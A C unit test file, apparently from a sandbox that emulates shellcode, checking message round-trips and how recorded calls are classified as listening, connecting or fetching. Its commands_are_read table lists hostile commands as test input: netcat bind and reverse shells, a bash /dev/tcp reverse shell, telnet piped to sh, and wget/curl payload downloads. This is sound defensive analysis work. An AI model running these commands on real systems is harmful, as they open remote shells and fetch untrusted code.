/* Frames come back as they went; what is none is refused; effects are read from calls. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>
#include <errno.h>

#include "model/shellcode_effect.h"

static struct bytes body_of(const struct buffer *frame)
{
    return bytes_from(buffer_bytes(frame), 4);
}

static void request_comes_back(void **state)
{
    (void)state;
    struct buffer out = {0};
    struct shellcode_request request = {7, SHELLCODE_LINUX_ARM, BYTES("\x01\x00\xff")};
    struct shellcode_request again = {0};
    shellcode_request_put(&request, &out);
    assert_int_equal(out.at[0], (int)out.len - 4);
    assert_int_equal(shellcode_request_take(body_of(&out), &again), 0);
    assert_int_equal(again.number, 7);
    assert_int_equal(again.platform, SHELLCODE_LINUX_ARM);
    assert_true(bytes_equal(again.code, request.code));
    for (size_t cut = 0; cut < out.len - 4; cut++)
        assert_int_equal(shellcode_request_take((struct bytes){out.at + 4, cut}, &again), -EBADMSG);
    out.at[8] = SHELLCODE_PLATFORMS;
    assert_int_equal(shellcode_request_take(body_of(&out), &again), -EBADMSG);
    buffer_finish(&out);
}

static void greeting_comes_back(void **state)
{
    (void)state;
    struct buffer out = {0};
    struct shellcode_greeting greeting = {true, false, BYTES("Unicorn 2")};
    struct shellcode_greeting again = {0};
    shellcode_greeting_put(&greeting, &out);
    assert_int_equal(shellcode_greeting_take(body_of(&out), &again), 0);
    assert_true(again.seccomp && !again.landlock && bytes_equal(again.engine, greeting.engine));
    out.at[4] = 'X';
    assert_int_equal(shellcode_greeting_take(body_of(&out), &again), -EBADMSG);
    buffer_finish(&out);
}

static void run_comes_back(void **state)
{
    (void)state;
    struct buffer out = {0};
    struct arena keep = {0};
    struct shellcode_call calls[] = {
        {.name = BYTES("connect"),
         .times = 2,
         .count = 2,
         .arguments = {{BYTES("fd"), SHELLCODE_NUMBER, -3, {0}},
                       {BYTES("address"), SHELLCODE_TEXT, 0, BYTES("10.0.0.1")}}},
        {.name = BYTES("execve"),
         .times = 1,
         .count = 1,
         .arguments = {{BYTES("arguments"), SHELLCODE_LIST, 0, BYTES("\2sh\2-c")}}},
    };
    struct shellcode_run run = {.number = 9,
                                .platform = SHELLCODE_BSD_X86,
                                .ending = SHELLCODE_EXECUTED,
                                .entry = 5,
                                .delay = 1000000000,
                                .assumed = true,
                                .note = BYTES("a note"),
                                .count = 2,
                                .calls = calls};
    struct shellcode_run again = {0};
    shellcode_run_put(&run, &out);
    assert_int_equal(shellcode_run_take(body_of(&out), &keep, &again), 0);
    assert_int_equal(again.ending, SHELLCODE_EXECUTED);
    assert_int_equal(again.delay, 1000000000);
    assert_true(again.assumed && again.entry == 5 && again.count == 2);
    assert_int_equal(again.calls[0].times, 2);
    assert_int_equal(shellcode_argument_find(&again.calls[0], "fd")->number, -3);
    assert_null(shellcode_argument_find(&again.calls[0], "port"));
    for (size_t cut = 0; cut < out.len - 4; cut++)
        assert_int_equal(shellcode_run_take((struct bytes){out.at + 4, cut}, &keep, &again),
                         -EBADMSG);
    buffer_finish(&out);
    arena_finish(&keep);
}

static void names_are_found(void **state)
{
    (void)state;
    for (int i = 0; i < SHELLCODE_PLATFORMS; i++) {
        const char *name = shellcode_platform_name((enum shellcode_platform)i);
        assert_non_null(name);
        assert_int_equal(shellcode_platform_named(bytes_of(name)), i);
    }
    for (int i = 0; i < SHELLCODE_ENDINGS; i++)
        assert_non_null(shellcode_ending_name((enum shellcode_ending)i));
    assert_int_equal(shellcode_platform_named(BYTES("vax")), SHELLCODE_PLATFORMS);
}

/* The effects of one call with one text. */
static struct shellcode_effects effects_of(const char *call, const char *argument, const char *text,
                                           struct arena *keep)
{
    struct shellcode_call calls[] = {
        {.name = bytes_of(call),
         .times = 1,
         .count = 1,
         .arguments = {{bytes_of(argument), SHELLCODE_TEXT, 0, bytes_of(text)}}}};
    struct shellcode_run run = {.count = 1, .calls = calls};
    struct shellcode_effects effects = {0};
    assert_int_equal(shellcode_effects_of(&run, keep, &effects), 0);
    return effects;
}

static void effect_is(const struct shellcode_effect *effect, enum shellcode_effect_kind kind,
                      const char *host, uint16_t port)
{
    assert_int_equal(effect->kind, kind);
    assert_true(bytes_equal(effect->host, bytes_of(host)));
    assert_int_equal(effect->port, port);
}

static void commands_are_read(void **state)
{
    (void)state;
    static const struct {
        const char *command, *host;
        enum shellcode_effect_kind kind;
        uint16_t port;
    } cases[] = {
        {"nc -lvp 4444 -e /bin/sh", "", EFFECT_LISTENS, 4444},
        {"/bin/nc -lp8080 -e/bin/sh", "", EFFECT_LISTENS, 8080},
        {"nc -l 99", "", EFFECT_LISTENS, 99},
        {"nc -e cmd.exe 10.1.2.3 443", "10.1.2.3", EFFECT_CONNECTS, 443},
        {"telnet 10.9.8.7 25|sh", "10.9.8.7", EFFECT_CONNECTS, 25},
        {"telnet 10.9.8.7", "10.9.8.7", EFFECT_CONNECTS, 23},
        {"xterm -display 10.0.0.5:1.0", "10.0.0.5", EFFECT_CONNECTS, 6001},
        {"ssh -R 99:localhost:22 eve@10.0.0.8", "10.0.0.8", EFFECT_CONNECTS, 22},
        {"bash -i >& /dev/tcp/10.0.0.9/8443 0>&1", "10.0.0.9", EFFECT_CONNECTS, 8443},
        {"wget http://10.0.0.7:81/x -O /tmp/x", "10.0.0.7", EFFECT_FETCHES, 81},
        {"curl https://example.org/x", "example.org", EFFECT_FETCHES, 443},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        struct arena keep = {0};
        struct shellcode_effects effects =
            effects_of("WinExec", "command", cases[i].command, &keep);
        assert_int_equal(effects.count, 2);
        effect_is(&effects.items[0], EFFECT_EXECUTES, "", 0);
        effect_is(&effects.items[1], cases[i].kind, cases[i].host, cases[i].port);
        arena_finish(&keep);
    }
}

static void listening_without_a_port_is_any_port(void **state)
{
    (void)state;
    struct arena keep = {0};
    struct shellcode_effects effects = effects_of("listen", "backlog", "", &keep);
    assert_int_equal(effects.count, 1);
    effect_is(&effects.items[0], EFFECT_LISTENS, "", 0);
    arena_finish(&keep);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(request_comes_back),
        cmocka_unit_test(greeting_comes_back),
        cmocka_unit_test(run_comes_back),
        cmocka_unit_test(names_are_found),
        cmocka_unit_test(commands_are_read),
        cmocka_unit_test(listening_without_a_port_is_any_port),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
